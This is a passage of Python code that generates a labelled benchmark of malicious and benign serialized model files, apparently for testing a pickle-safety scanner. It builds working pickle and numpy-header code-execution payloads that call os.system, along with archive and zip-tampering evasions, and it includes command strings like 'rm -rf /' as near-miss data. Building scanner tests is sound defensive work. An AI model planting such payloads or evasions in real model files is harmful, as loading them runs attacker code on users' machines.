    yield "lzma.joblib", lzma.compress(e4, lzma.FORMAT_ALONE), "xz", True
    yield "zlib.joblib", zlib.compress(e4), "zlib", True
    yield "zf-old.joblib", b"ZF" + hex(len(e2)).encode().ljust(19) + zlib.compress(e2), "", None
    yield "objects.npy", npy(e2), "npy", True
    yield "objects-structured.npy", npy(e2, "[('a', '<i4'), ('b', '|O')]").replace(b"'[(", b"[(").replace(b")]'", b")]"), "npy", True
    yield "objects.npz", a_zip([("a.npy", npy(pk(b"]", 2))), ("b.npy", npy(e4))]), "", None
    yield "header-code.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + b"{'descr': __import__('os').system('touch aisp-ran'), 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n", "", None
    yield "wrong-ext.txt", e2, "pickle", True
    yield "wrong-ext.safetensors", e4, "pickle", True
    yield "wrong-ext.json", pk(system(), 4), "pickle", True
    yield "no-ext", b"cos\nsystem\n(S'" + MARK.encode() + b"'\ntR.", "pickle", True
    yield "zip-in-zip.zip", a_zip([("inner.zip", a_zip([("a/b/model.pkl", e2)]))]), "", None
    yield "zip-in-zip-3.zip", a_zip([("i.zip", a_zip([("i.zip", a_zip([("weights", e2)]))]))]), "", None
    yield "tar-gz.tar.gz", gzip.compress(a_tar([("model/weights.dat", e2)]), mtime=0), "", None
    yield "tar-xz.tar.xz", lzma.compress(a_tar([("m.pkl", e4)])), "", None
    yield "nemo.nemo", a_tar([("./model_config.yaml", b"name: x\n"), ("./model_weights.ckpt", torch_zip(bad_sd))]), "", None
    yield "mar.mar", a_zip([("MAR-INF/MANIFEST.json", b'{"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "h.py"}}'), ("m.pt", torch_zip(bad_sd)), ("h.py", b"def handle(data, context):\n    return data\n")]), "", None
    yield "wheel.whl", a_zip([("pkg/__init__.py", b""), ("pkg/model.pkl", e2), ("pkg-1.dist-info/METADATA", b"Name: pkg\n")]), "", None
    yield "zip-prefixed.pkl", b"\0" * 300 + a_zip([("m.pkl", e2)]), "", None
    z = a_zip([("m.pkl", e2), ("n.txt", b"n")])
    flags = bytearray(z)
    at = flags.index(b"PK\1\2")
    flags[at + 8] |= 1
    yield "zip-flag-encrypted.zip", bytes(flags), "", None
    flags[6] |= 1
    yield "zip-flag-encrypted-both.zip", bytes(flags), "", None
    name = bytearray(z)
    at = name.index(b"m.pkl", 40)
    name[at:at + 5] = b"m.txt"
    yield "zip-name-differs.zip", bytes(name), "", None
    crc = bytearray(z)
    crc[14:18] = b"\1\2\3\4"
    at = crc.index(b"PK\1\2")
    crc[at + 16:at + 20] = b"\1\2\3\4"
    yield "zip-bad-crc.zip", bytes(crc), "", None
    dup = io.BytesIO()
    with zipfile.ZipFile(dup, "w") as f:
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            for d in (pickle.dumps({"a": 1}, 2), e2):
                f.writestr(zipfile.ZipInfo("archive/data.pkl"), d)
            f.writestr(zipfile.ZipInfo("archive/version"), b"3\n")
    yield "zip-duplicate.pt", dup.getvalue(), "", None
    cd = z.index(b"PK\1\2")
    yield "zip-no-directory.zip", z[:cd], "", None
    local = z[:z.index(b"PK\3\4", 4)]
    rest = a_zip([("n.txt", b"n")])
    yield "zip-unlisted.zip", local + rest, "", None
    method = bytearray(a_zip([("m.pkl", e2), ("n.txt", b"n")]))
    at = method.index(b"PK\1\2")
    method[at + 10] = 99
    yield "zip-method-differs.zip", bytes(method), "", None
    yield "pickle-then-zip.pkl", e2 + z, "pickle", True
    yield "png-like.pkl", EVIL + b"\x89PNG\r\n\x1a\n" + bytes(100), "pickle", True
    yield "joblib-raw-array.joblib", joblib_array(system()), "", None


def joblib_array(extra=b"", protocol=3):
    """A dictionary with one NumpyArrayWrapper, its raw array behind it, and then `extra`."""
    dtype = call(g("numpy", "dtype"), s("f8"), b"\x89", b"\x88") + tup(b"K\x03", s("<"), b"N") [:-1] + b"" if False else call(g("numpy", "dtype"), s("f8"), b"\x89", b"\x88")
    state = dct(s("subclass"), g("numpy", "ndarray"), s("shape"), tup(b"K\x04"), s("order"), s("C"), s("dtype"), dtype,
                s("allow_mmap"), b"\x88", s("numpy_array_alignment_bytes"), b"K\x10")
    head = b"\x80\x03" + b"}(" + s("x") + g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    pad = -(len(head) + 1) % 16
    raw = bytes([pad]) + b"\xff" * pad + struct.pack("<4d", 1.0, 2.0, 3.0, 4.0)
    return head + raw + b"u" + (b"0" + extra if extra else b"") + b"."


def malicious():
    for n, (module, name, args, runs) in enumerate(gadgets()):
        all_styles = list(styles(module, name, args))
        style, data = all_styles[n % len(all_styles)]
        if style == "reduce0" and "." in name:
            style, data = all_styles[1]
        if style in ("reduce2", "inst", "obj") and "." in name:
            style, data = all_styles[2]  # a dotted name needs protocol 4
        yield {"name": f"gadget/{module}.{name.replace('.', '-')}-{style}.pkl", "data": data, "kind": "gadget", "runs": runs, "load": "pickle"}
    for style, data in styles("os", "system", [s(MARK)]):
        yield {"name": f"style/{style}.pkl", "data": data, "kind": "style", "runs": True, "load": "pickle"}
    for name, data, load, runs in evasions():
        yield {"name": f"evasion/{name}.pkl", "data": data, "kind": "evasion", "runs": runs, "load": load}
    for name, data, load, runs in containers():
        yield {"name": f"container/{name}", "data": data, "kind": "container", "runs": bool(runs), "load": load}


# ---- harmless ----

class Colour(enum.Enum):
    RED = 1
    BLUE = 2


Point = collections.namedtuple("Point", "x y")


class Model:
    """A project's own class: loading needs its code, and that is all."""

    def __init__(self):
        self.weights = [0.1, 0.2]
        self.notes = "os.system('rm -rf /'); exec(open('x').read())"


class Slots:
    __slots__ = ("a", "b")

    def __init__(self):
        self.a, self.b = 1, 2

    def __getstate__(self):
        return (None, {"a": self.a, "b": self.b})


class Reduced:
    def __reduce__(self):
        return (Reduced, (), {"x": 1})


def objects():
    rng = random.Random(7)
    yield "numbers", [1, -1, 255, 65536, 10**40, -(10**40), 0.5, True, None, 1 + 2j]
    yield "texts", ["os.system", "eval(", "__import__('os')", "cos\nsystem\n(S'id'\ntR.", "builtins\nexec", "c__builtin__\neval\n", "\u2028", "x" * 300]
    yield "bytes-with-pickle-inside", {"blob": b"cos\nsystem\n(S'id'\ntR.", "other": b"\x80\x04 not one"}
    yield "nested", {"a": {"b": [{"c": (1, (2, (3,)))}]}, "s": {1, 2}, "f": frozenset("ab")}
    yield "recursive", (lambda x: (x.append(x), x)[1])([1])
    yield "dates", [datetime.datetime(2020, 1, 2, tzinfo=datetime.timezone.utc), datetime.date(2021, 1, 1), datetime.time(1), datetime.timedelta(3)]
    yield "decimals", [decimal.Decimal("1.25"), fractions.Fraction(1, 3)]
    yield "uuids", [uuid.UUID(int=77), uuid.UUID(int=78)]
    yield "paths", [pathlib.PurePosixPath("/etc/passwd"), pathlib.PurePosixPath("data"), pathlib.Path("model.bin")]
    yield "collections", [collections.OrderedDict(a=1), collections.defaultdict(list, a=[1]), collections.Counter("abca"), collections.deque([1, 2], 5)]
    yield "defaultdict-int", collections.defaultdict(int, a=1)
    yield "defaultdict-nested", collections.defaultdict(functools.partial(collections.defaultdict, int))
    yield "regex", [re.compile(r"exec\((.*)\)"), re.compile(b"x", re.I)]
    yield "enum", [Colour.RED, Colour.BLUE]
    yield "namedtuple", [Point(1, 2)]
    yield "model", Model()
    yield "slots", Slots()
    yield "reduced", Reduced()
    yield "namespace", argparse.Namespace(lr=0.1, command="train", exec=True)
    yield "simplenamespace", types.SimpleNamespace(system="linux", os="debian")
    yield "partial", functools.partial(int, base=16)
    yield "partial-operator", functools.partial(operator.mul, 2)
    yield "getters", [operator.itemgetter("system"), operator.attrgetter("os.path"), operator.methodcaller("lower")]
    yield "builtin-functions", [len, sum, abs, int, str, list, sorted]
    yield "exceptions", [ValueError("x"), KeyError("os"), OSError(2, "No such file")]
    yield "ranges", [range(10), slice(1, None), Ellipsis, NotImplemented]
    yield "bytearrays", [bytearray(b"abc"), b"abc" * 100]
    yield "random-state", rng
    yield "iterators", [iter([1, 2, 3]), reversed([1, 2])]
    yield "shared", (lambda x: [x, x, {"x": x}])({"deep": [1] * 50})
    yield "large", [{"id": k, "text": f"row {k}", "vec": [k * 0.5] * 4} for k in range(500)]
    yield "types", [int, collections.OrderedDict, Model, Colour]


def written_elsewhere():
    """What libraries write, opcode by opcode (numpy, scikit-learn, PyTorch, transformers …), without having them here."""
    def new(module, name, state):
        return g(module, name) + b")\x81" + state + b"b"

    def dtype(code="f8"):
        return call(g("numpy", "dtype"), s(code), b"\x89", b"\x88") + b"(" + b"K\x03" + s("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"

    def array(core="numpy.core.multiarray", n=4):
        head = call(g(core, "_reconstruct"), g("numpy", "ndarray"), tup(b"K\x00"), by(b"b"))
        return head + b"(" + b"K\x01" + tup(b"K" + bytes([n])) + dtype() + b"\x89" + by(struct.pack("<4d", 1, 2, 3, 4)) + b"tb"

    yield "numpy-array", pk(array(), 3)
    yield "numpy-array-new-core", pk(array("numpy._core.multiarray"), 4)
    yield "numpy-scalar", pk(call(g("numpy.core.multiarray", "scalar"), dtype(), by(struct.pack("<d", 2.5))), 3)
    yield "numpy-py2", b"cnumpy.core.multiarray\n_reconstruct\np0\n(cnumpy\nndarray\np1\n(I0\ntp2\nS'b'\np3\ntp4\nRp5\n(I1\n(I1\ntp6\ncnumpy\ndtype\np7\n(S'f8'\np8\nI0\nI1\ntp9\nRp10\n(I3\nS'<'\np11\nNNNI-1\nI-1\nI0\ntp12\nbI00\nS'\\x00\\x00\\x00\\x00\\x00\\x00\\xf0?'\np13\ntp14\nb."
    for cls in ("linear_model._logistic.LogisticRegression", "svm._classes.SVC", "ensemble._forest.RandomForestClassifier", "cluster._kmeans.KMeans",
                "preprocessing._data.StandardScaler", "decomposition._pca.PCA", "naive_bayes.GaussianNB"):
        module, name = ("sklearn." + cls).rsplit(".", 1)
        yield "sklearn-" + name, pk(new(module, name, dct(s("C"), b"G?\xf0\x00\x00\x00\x00\x00\x00", s("coef_"), array(), s("_sklearn_version"), s("1.4.0"))), 3)
    yield "sklearn-tree", pk(call(g("sklearn.tree._tree", "Tree"), b"K\x04", array(), b"K\x01") + dct(s("max_depth"), b"K\x02", s("nodes"), array()) + b"b", 3)
    yield "sklearn-pyx", pk(call(g("sklearn._loss._loss", "__pyx_unpickle_CyHalfBinomialLoss"), g("sklearn._loss._loss", "CyHalfBinomialLoss"), i(0x0FFFFFFF), b"N"), 4)
    yield "sklearn-kdtree", pk(call(g("sklearn.neighbors._kd_tree", "newObj"), g("sklearn.neighbors._kd_tree", "KDTree")) + tup(array(), array()) + b"b", 3)
    yield "pandas-frame", pk(new("pandas.core.frame", "DataFrame", dct(s("_mgr"), call(g("pandas._libs.internals", "_unpickle_block"), array(), b"K\x00", b"K\x02"), s("_typ"), s("dataframe"))), 4)
    yield "pandas-index", pk(call(g("pandas.core.indexes.base", "_new_Index"), g("pandas.core.indexes.range", "RangeIndex"), dct(s("start"), b"K\x00", s("stop"), b"K\x05")), 4)
    yield "scipy-csr", pk(new("scipy.sparse._csr", "csr_matrix", dct(s("_shape"), tup(b"K\x02", b"K\x02"), s("data"), array())), 4)
    yield "xgboost", pk(new("xgboost.sklearn", "XGBClassifier", dct(s("_Booster"), new("xgboost.core", "Booster", dct(s("handle"), call(g("builtins", "bytearray"), by(b"binf" + bytes(40)))))  )), 4)
    yield "lightgbm", pk(new("lightgbm.basic", "Booster", dct(s("handle"), s("tree\nversion=v4\nnum_class=1\n"))), 4)
    yield "training-args", torch_zip(pk(new("transformers.training_args", "TrainingArguments", dct(s("output_dir"), s("out"), s("lr_scheduler_type"), call(g("transformers.trainer_utils", "SchedulerType"), s("linear")), s("device"), call(g("torch", "device"), s("cuda"), b"K\x00"))), 2), 0)
    yield "accelerate-state", pk(new("accelerate.state", "PartialState", dct(s("backend"), s("nccl"))), 2)
    yield "lightning-ckpt", torch_zip(pk(dct(s("epoch"), b"K\x05", s("state_dict"), state_dict(3), s("pytorch-lightning_version"), s("2.1.0"), s("hyper_parameters"), call(g("lightning.fabric.utilities.data", "AttributeDict")) + b"(" + s("lr") + b"K\x01u", s("callbacks"), b"}"), 2))
    yield "optimizer", torch_zip(pk(dct(s("state"), b"}", s("param_groups"), lst(dct(s("lr"), b"K\x01", s("foreach"), b"N"))), 2), 0)
    yield "whole-module", torch_zip(pk(new("torch.nn.modules.container", "Sequential", dct(s("training"), b"\x88", s("_modules"), call(g("collections", "OrderedDict")) + b"(" + s("0") + new("torch.nn.modules.linear", "Linear", dct(s("in_features"), b"K\x04", s("_parameters"), state_dict(1))) + b"u")), 2), 1)
    yield "own-module", torch_zip(pk(new("my_project.models.net", "ResNetWithEval", dct(s("training"), b"\x89", s("_parameters"), state_dict(1))), 2), 1)
    yield "yolo", torch_zip(pk(dct(s("model"), new("ultralytics.nn.tasks", "DetectionModel", dct(s("yaml"), b"}", s("names"), b"}")), s("ema"), b"N", s("date"), s("2024-01-01"), s("train_args"), b"}"), 2), 0)
    yield "fairseq-args", torch_zip(pk(dct(s("args"), call(g("copy_reg", "_reconstructor"), g("argparse", "Namespace"), g("__builtin__", "object"), b"N") + dct(s("run"), b"\x88", s("command"), s("python train.py; rm x")) + b"b", s("model"), state_dict(2)), 2), 2)
    yield "omegaconf", torch_zip(pk(dct(s("cfg"), new("omegaconf.dictconfig", "DictConfig", dct(s("_metadata"), new("omegaconf.base", "ContainerMetadata", dct(s("ref_type"), g("typing", "Any"), s("element_type"), g("typing", "Any"))), s("_content"), b"}"))), 2), 0)
    yield "quantised", torch_zip(pk(call(g("torch._utils", "_rebuild_qtensor"), tup(s("storage"), g("torch", "QInt8Storage"), s("0"), s("cpu"), b"K\x04") + b"Q", b"K\x00", tup(b"K\x04"), tup(b"K\x01"), tup(g("torch", "per_tensor_affine"), b"G?\xb9\x99\x99\x99\x99\x99\x9a", b"K\x00"), b"\x89", call(g("collections", "OrderedDict"))), 2), 1)
    yield "parameter", torch_zip(pk(call(g("torch._utils", "_rebuild_parameter"), tensor(), b"\x88", call(g("collections", "OrderedDict"))), 2), 1)
    yield "tensor-subclass", torch_zip(pk(call(g("torch._tensor", "_rebuild_from_type_v2"), g("torch._utils", "_rebuild_tensor_v2"), g("torch.nn.parameter", "Parameter"), tup(tensor()), b"}"), 2), 1)
    yield "state-dict", torch_zip(pk(state_dict(5), 2), 5)
    yield "state-dict-metadata", torch_zip(pk(state_dict(2, b"}" + s("_metadata") + call(g("collections", "OrderedDict")) + b"sb"), 2), 2)
    yield "state-dict-big-numbers", torch_zip(pk(state_dict(40), 2), 40)
    yield "legacy", torch_legacy(pk(state_dict(1), 2))
    yield "legacy-tar", a_tar([("sys_info", pickle.dumps({"protocol_version": 1000}, 2)), ("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2)), ("pickle", pk(call(g("collections", "OrderedDict")), 2))])
    script = b"class Net(Module):\n  __parameters__ = [\"weight\", ]\n  weight : Tensor\n  def forward(self: __torch__.Net, x: Tensor) -> Tensor:\n    # save(x) and open( in a comment\n    _0 = torch.linear(x, self.weight)\n    print(\"os.system\")\n    return torch.relu(_0)\n  def eval(self: __torch__.Net) -> None:\n    return None\n"
    yield "torchscript", torch_zip(pk(g("__torch__", "Net") + b")\x81" + dct(s("weight"), tensor()) + b"b", 2), 1, more=[("code/__torch__.py", script), ("code/__torch__.py.debug_pkl", pickle.dumps((("a", 1),), 2)), ("constants.pkl", pickle.dumps((), 2))])
    yield "joblib-array", joblib_array()
    yield "joblib-wrapped-estimator", pk(new("sklearn.pipeline", "Pipeline", dct(s("steps"), lst(tup(s("clf"), new("sklearn.dummy", "DummyClassifier", b"}"))))), 3)
    yield "spacy", pk(call(g("spacy.vocab", "unpickle_vocab"), new("spacy.strings", "StringStore", b"}"), b"N", b"}"), 4)
    yield "gensim", pk(new("gensim.models.word2vec", "Word2Vec", dct(s("wv"), new("gensim.models.keyedvectors", "KeyedVectors", dct(s("vectors"), array())))), 4)
    yield "stable-baselines", pk(new("stable_baselines3.common.buffers", "RolloutBuffer", dct(s("pos"), b"K\x00", s("observation_space"), new("gymnasium.spaces.box", "Box", dct(s("low"), array())))), 4)
    yield "fastai", pk(new("fastai.learner", "Learner", dct(s("opt_func"), call(g("functools", "partial"), g("fastai.optimizer", "OptimWrapper")), s("loss_func"), new("fastai.losses", "CrossEntropyLossFlat", b"}"), s("splitter"), g("fastai.vision.learner", "_resnet_split"))), 4)
    yield "keras-history", pk(dct(s("history"), dct(s("loss"), lst(b"K\x01"))), 4)
    yield "statsmodels", pk(new("statsmodels.regression.linear_model", "RegressionResultsWrapper", dct(s("_results"), new("statsmodels.regression.linear_model", "OLSResults", b"}"))), 4)
    yield "function-transformer", pk(new("sklearn.preprocessing._function_transformer", "FunctionTransformer", dct(s("func"), g("numpy", "log1p"), s("inverse_func"), g("numpy", "expm1"))), 3)
    yield "logger", pk(new("my_project.trainer", "Trainer", dct(s("logger"), call(g("logging", "getLogger"), s("trainer")))), 4)
    yield "timezone", pk(call(g("pytz", "_p"), s("Europe/Berlin"), i(3600), b"K\x00", s("CET")), 4)
    yield "weakset", pk(new("abc_project.registry", "Registry", dct(s("seen"), call(g("_weakrefset", "WeakSet"), b"]"))), 4)
    yield "getattr-enum", pk(call(g("builtins", "getattr"), g("my_project.enums", "Mode"), s("EVAL")), 4)
    yield "getattr-method", pk(dct(s("tokenizer"), call(g("builtins", "getattr"), new("sklearn.feature_extraction.text", "CountVectorizer", b"}"), s("build_tokenizer"))), 4)
    yield "tensor-in-pickle", pk(call(g("torch.storage", "_load_from_bytes"), by(torch_legacy(pk(b"]", 2)))), 4)
    yield "py2-state", b"ccopy_reg\n_reconstructor\np0\n(cmyproject.model\nClassifier\np1\nc__builtin__\nobject\np2\nNtp3\nRp4\n(dp5\nS'system'\np6\nS'os.system(1)'\np7\nsb."
    yield "old-class", b"(imyproject.model\nVectorizer\np0\n(dp1\nS'n'\nI5\nsb."


def texts():
    """Text and data that are no pickles at all, or data that only mention what is bad."""
    yield "code.py", b"import os\nos.system('ls')\nexec(open('x').read())\n"
    yield "opcodes.md", b"A pickle such as cos\nsystem\n(S'id'\ntR. runs a command.\n"
    yield "notes.txt", b"(I like pickles)\nN.\n"
    yield "weights.csv", b"a,b\n1,2\n3,4\n"
    yield "random.bin", random.Random(3).randbytes(4096)
    yield "zeros.bin", bytes(4096)
    yield "floats.bin", struct.pack("<512f", *[k * 0.37 - 90 for k in range(512)])
    yield "plain.npy", npy(struct.pack("<d", 1.5), "<f8")
    yield "plain.npz", a_zip([("a.npy", npy(struct.pack("<d", 1.5), "<f8")), ("b.npy", npy(struct.pack("<d", 2.5), "<f8"))], zipfile.ZIP_DEFLATED)
    yield "objects-plain.npy", npy(pickle.dumps([1, "os.system", None], 4))
    yield "docs.zip", a_zip([("readme.txt", b"pickle.loads is dangerous"), ("x.py", b"import pickle\n")], zipfile.ZIP_DEFLATED)
    yield "backup.tar.gz", gzip.compress(a_tar([("model.pkl", pickle.dumps({"w": [1, 2, 3]})), ("notes.txt", b"x")]), mtime=0)
    yield "models.zip", a_zip([("a.pkl", pickle.dumps([1, 2])), ("b.npy", npy(struct.pack("<d", 1.5), "<f8"))])
    yield "compressed.pkl.gz", gzip.compress(pickle.dumps({"a": list(range(1000))}), mtime=0)
    yield "compressed.pkl.bz2", bz2.compress(pickle.dumps({"a": 1}))
    yield "compressed.pkl.xz", lzma.compress(pickle.dumps({"a": 1}))
    yield "two-pickles.pkl", pickle.dumps({"a": 1}) + pickle.dumps([2, 3])
    yield "log-of-pickles.pkl", b"".join(pickle.dumps({"step": k, "loss": 1 / (k + 1)}) for k in range(50))
    yield "mar-plain.mar", a_zip([("MAR-INF/MANIFEST.json", b'{"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "handler.py"}}'), ("m.pt", torch_zip(pk(state_dict(2), 2))), ("handler.py", b"import os\nimport torch\n\ndef handle(data, context):\n    return data\n")])
    yield "nemo-plain.nemo", a_tar([("./model_config.yaml", b"name: conformer\nsample_rate: 16000\n"), ("./model_weights.ckpt", torch_zip(pk(state_dict(3), 2)))])


def benign():
    for name, obj in objects():
        for proto in (0, 2, 3, 4, 5) if name in ("texts", "model", "collections", "dates") else (0, 2, 4) if name not in ("iterators", "slots") else (2, 4):
            copyreg  # the module stays imported: old protocols write it
            try:
                data = pickle.dumps(obj, proto)
            except TypeError:
                continue
            yield {"name": f"plain/{name}-p{proto}.pkl", "data": data, "kind": "objects"}
    for name, data in written_elsewhere():
        end = "pt" if data[:2] == b"PK" or name.startswith("legacy") else "joblib" if name.startswith("joblib") else "pkl"
        yield {"name": f"library/{name}.{end}", "data": data, "kind": "library"}
    for name, data in texts():
        yield {"name": f"near/{name}", "data": data, "kind": "near miss"}


def cases():
    for case in malicious():
        yield {**case, "label": "malicious"}
    for case in benign():
        yield {**case, "label": "benign"}
